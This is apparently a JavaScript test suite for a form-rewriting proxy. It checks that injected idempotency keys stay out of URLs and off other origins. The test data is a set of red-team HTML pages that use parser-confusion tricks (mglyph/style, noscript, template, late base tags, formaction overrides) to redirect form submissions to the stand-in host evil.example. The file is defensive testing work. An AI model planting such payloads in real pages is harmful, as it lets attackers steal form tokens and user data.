// Form keys against pages a browser reads otherwise than the rewriter
// (SPEC §8, docs/forms.md): the red teams' pages, each of which once sent a
// key into a URL or to another origin, loaded in headless Chromium with
// JavaScript off through the production proxy on both hosts, the submit
// clicked. Whatever the page does, a key the layer placed may only leave in
// the body of a post to the page's own origin.
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { after, before, test } from "node:test";
import { start } from "../edge/harness.mjs";
import { launchChromium } from "../support/chromium.mjs";

const EVIL = "https://evil.example/c";
const UUID7 = /[0-9a-f]{8}-[0-9a-f]{4}-7[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}/g;

/** Each page: its bytes, its content type, the button to click, and whether a key must reach the origin. */
const PAGES = {
  "/late-base": {
    html: `<form method="post" action="orders"><input name="q"><button>Pay</button></form><base href="${EVIL}/"><noscript><base href="${EVIL}/"></noscript>`,
    click: "text=Pay",
    posts: true,
  },
  "/hidden-base": {
    html: `<math><mi><mglyph><style><p><base href="${EVIL}/"></style></mglyph></mi></math><form method="post" action="orders"><input name="q"><button>Pay</button></form>`,
    click: "text=Pay",
  },
  "/hidden-late-base": {
    html: `<form method="post" action="orders"><input name="q"><button>Pay</button></form><math><mi><mglyph><style><p><base href="${EVIL}/"></style></mglyph></mi></math>`,
    click: "text=Pay",
    posts: true,
  },
  "/span-div": {
    html: `<form method="post" action="/orders"><input name="q"><span><div></span></form><button formmethod="get" formaction="${EVIL}">Look</button>`,
    click: "text=Look",
  },
  "/b-div": {
    html: `<form method="post" action="/orders" id="b"><input name="q"><b><div></b></form><button formmethod="get" formaction="${EVIL}">Look</button>`,
    click: "text=Look",
  },
  "/left-open": {
    html: `<form method="post" action="/orders"><div><input name="q"></form><button formmethod="get" formaction="${EVIL}">Look</button></div>`,
    click: "text=Look",
  },
  "/mglyph": {
    html: `<form id="x" method="post" action="/orders"><input name="q"><button>Pay</button></form><math><mi><mglyph><style><p><button form="x" formmethod="get" formaction="${EVIL}">Look</button></style></mglyph></mi></math>`,
    click: "text=Look",
  },
  "/svg-in-svg": {
    html: `<form id="x" method="post" action="/orders"><input name="q"><button>Pay</button></form><form id="g" action="${EVIL}"><button>Send</button></form><svg><svg><p><textarea name="t" form="g"></svg></svg>`,
    click: "text=Send",
  },
  "/svg-desc": {
    html: `<form method="post" action="/orders"><input name="q"><div><svg><desc></div></form></desc></svg><button formmethod="get" formaction="${EVIL}">Look</button>`,
    click: "text=Look",
  },
  "/math-mi": {
    html: `<form method="post" action="/orders"><input name="q"><div><math><mi></div></form></mi></math><button formmethod="get" formaction="${EVIL}">Look</button>`,
    click: "text=Look",
  },
  "/li-ul": {
    html: `<form method="post" action="/orders"><input name="q"><li><ul></li></form><button formmethod="get" formaction="${EVIL}">Look</button>`,
    click: "text=Look",
  },
  "/dd-dt": {
    html: `<form method="post" action="/orders"><input name="q"><dd><dt><div></dd></form><button formmethod="get" formaction="${EVIL}">Look</button>`,
    click: "text=Look",
  },
  "/span-p": {
    html: `<form method="post" action="/orders"><input name="q"><span><p></span></form><button formmethod="get" formaction="${EVIL}">Look</button>`,
    click: "text=Look",
  },
  "/template-base": {
    html: `<div><template></div><base href="/"></template><form method="post" action="orders"><input name="q"><button>Pay</button></form><base href="${EVIL}/">`,
    click: "text=Pay",
  },
  "/noscript-div": {
    html: `<form method="post" action="/orders"><input name="q"><noscript><div></noscript></form><button formmethod="get" formaction="${EVIL}">Look</button>`,
    click: 'button[formmethod="get"]',
  },
  "/sloppy-but-alike": {
    html: `<form method="post" action="/orders"><table><tr><td><input name="q"></table><div><span>Total</div><ul><li>one<li>two</ul><p>Note<button>Pay</button></form>`,
    click: "text=Pay",
    posts: true,
  },
  "/ends-in-tag": {
    html: `<form method="post" action="/orders" id="x"><input name="q"></form><button name="k" formmethod="get" formaction="${EVIL}" `,
    enter: true,
  },
  "/iso-2022-jp": {
    html: '<meta charset="iso-2022-jp"><form method="get" action="/search"><input name="q">\x1b$B</form><form method="post" action="/orders">\x1b(B<button>Pay</button></form>',
    click: "button",
  },
  "/two-types": {
    type: "text/html;a=b, application/xhtml+xml",
    html: `<html xmlns="http://www.w3.org/1999/xhtml"><body><form method="post" action="/orders"><input name="q"/><xmp><button formmethod="get" formaction="${EVIL}">Look</button></xmp><button>Pay</button></form></body></html>`,
    click: "text=Look",
  },
  "/noscript-title": {
    html: `<form method="get" action="${EVIL}"><noscript><p title="</noscript></form><form method=post action=/orders>"><input name="q"><button>Pay</button></form>`,
    enter: true,
  },
  "/noscript-title-own": {
    html: `<form><noscript><p title="</noscript></form><form method=post>"><input name="q"><button>Pay</button></form>`,
    enter: true,
  },
  "/noscript-comment-base": {
    html: `<noscript><!--</noscript><form method="post" action="/a"><button>A</button></form>--></noscript><form method="post" action="orders"><input name="q"><button>Pay</button></form><base href="${EVIL}/">`,
    click: "text=Pay",
  },
  "/noscript-xmp": {
    html: `<form method="get" action="${EVIL}"><noscript><xmp></noscript></form><form method="post" action="/orders"></xmp></noscript><input name="q"><button>Pay</button></form>`,
    click: "text=Pay",
  },
  "/select-div": {
    html: `<form id="x" method="post"><div><select></div></form><input type="submit" formmethod="get" formaction="${EVIL}" value="Look"><input name="q">`,
    click: 'input[value="Look"]',
  },
  "/select-ul": {
    html: `<form id="x" method="post"><ul><li><select></ul></form><input type="submit" formmethod="get" value="Look"><input name="q">`,
    enter: true,
  },
  "/table-base": {
    html: `<table><tr><td><form method="post" action="orders"><input name="q"><button>Pay</button></form></td></tr><base href="${EVIL}/"></table>`,
    click: "text=Pay",
  },
  "/svg-form-pin": {
    html: `<svg><form method="post"></form></svg><form method="post" action="orders"><input name="q"><button>Pay</button></form><base href="${EVIL}/">`,
    click: "text=Pay",
    posts: true,
  },
  "/noscript-template": {
    html: `<noscript><template></noscript><form method="post"></form></template><form method="post" action="orders"><input name="q"><button>Pay</button></form><base href="${EVIL}/">`,
    click: "text=Pay",
  },
  "/noscript-template-get": {
    html: `<form method="get" action="${EVIL}"><noscript><template></noscript></form></template><form method="post" action="/orders"><input name="q"><button>Pay</button></form>`,
    enter: true,
  },
  "/noscript-pixel": {
    html: `<noscript><img height="1" width="1" style="display:none" src="/px?id=1&amp;ev=PageView&amp;noscript=1"/></noscript><form method="post" action="/orders"><input name="q"><button>Pay</button></form>`,
    click: "text=Pay",
    posts: true,
  },
  "/icon": {
    html: `<form method="post" action="/orders"><input name="q"><button><svg viewBox="0 0 1 1"><title>Cart</title><path d="M0 0"/></svg>Pay</button></form>`,
    click: "text=Pay",
    posts: true,
  },
};

let browser;
let origin;
const proxies = {};

before(async () => {
  origin = createServer((req, res) => {
    const page = PAGES[req.url];
    req.resume();
    if (req.method === "GET" && page) {
      res.writeHead(200, { "content-type": page.type ?? "text/html" });
      return res.end(page.html);
    }
    res.writeHead(201, { "content-type": "text/plain" });
    res.end("order created");
  });
  await new Promise((resolve) => origin.listen(0, "127.0.0.1", resolve));
  const vars = { ORIGIN_URL: `http://127.0.0.1:${origin.address().port}`, IDEMPOTENCY_FORMS: "inject" };
  for (const host of ["rust", "js"]) proxies[host] = await start({ worker: "proxy", host, vars, quiet: true });
  browser = await launchChromium();
});
after(async () => {
  await browser?.close();
  for (const proxy of Object.values(proxies)) await proxy.dispose();
  origin?.close();
});

/** Loads `path` on `host`'s proxy with JavaScript off, clicks, and checks where each key went. */
async function submit(host, path, page) {
  const context = await browser.newContext({ javaScriptEnabled: false });
  const tab = await context.newPage();
  const sent = [];
  await tab.route(`${EVIL.slice(0, -2)}**`, (route) => route.fulfill({ status: 200, body: "collected" }));
  tab.on("request", (request) => {
    if (request.url().startsWith("http")) sent.push(request);
  });
  try {
    const own = new URL(proxies[host].url).origin;
    await tab.goto(`${own}${path}`);
    // Every key the layer placed, as the browser holds the page.
    const shown = (await tab.content()).match(UUID7) ?? [];
    const after = sent.length;
    if (page.enter) await tab.press('input[name="q"]', "Enter");
    else await tab.click(page.click, { timeout: 5000 });
    await tab.waitForLoadState("load").catch(() => {});
    const submitted = sent.slice(after);
    assert.ok(submitted.length > 0, `${path}: the click sent something`);
    let posted = false;
    for (const request of submitted) {
      const body = request.postData() ?? "";
      for (const key of new Set(shown)) {
        assert.ok(!request.url().includes(key), `${path}: a key in a URL: ${request.method()} ${request.url()}`);
        if (body.includes(key)) {
          assert.equal(new URL(request.url()).origin, own, `${path}: a key to another origin: ${request.url()}`);
          assert.equal(request.method(), "POST", path);
          posted = true;
        }
      }
    }
    if (page.posts) {
      assert.ok(shown.length > 0, `${path}: the page got its key`);
      assert.ok(posted, `${path}: the key went with the post: ${submitted.map((r) => r.url())}`);
    }
  } finally {
    await context.close();
  }
}

test("rust host: on every page, a key leaves only in a post to the page's own origin", async () => {
  for (const [path, page] of Object.entries(PAGES)) await submit("rust", path, page);
});

test("js host: on every page, a key leaves only in a post to the page's own origin", async () => {
  for (const [path, page] of Object.entries(PAGES)) await submit("js", path, page);
});
